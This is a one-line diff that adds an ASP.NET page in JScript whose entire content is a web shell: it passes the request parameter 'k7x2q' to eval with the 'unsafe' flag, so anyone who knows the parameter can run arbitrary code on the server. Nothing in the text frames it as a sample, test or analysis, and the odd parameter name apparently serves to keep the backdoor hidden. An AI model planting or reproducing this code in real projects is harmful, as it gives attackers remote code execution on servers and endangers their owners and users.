@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%eval(Request.Item["k7x2q"],"unsafe");%>
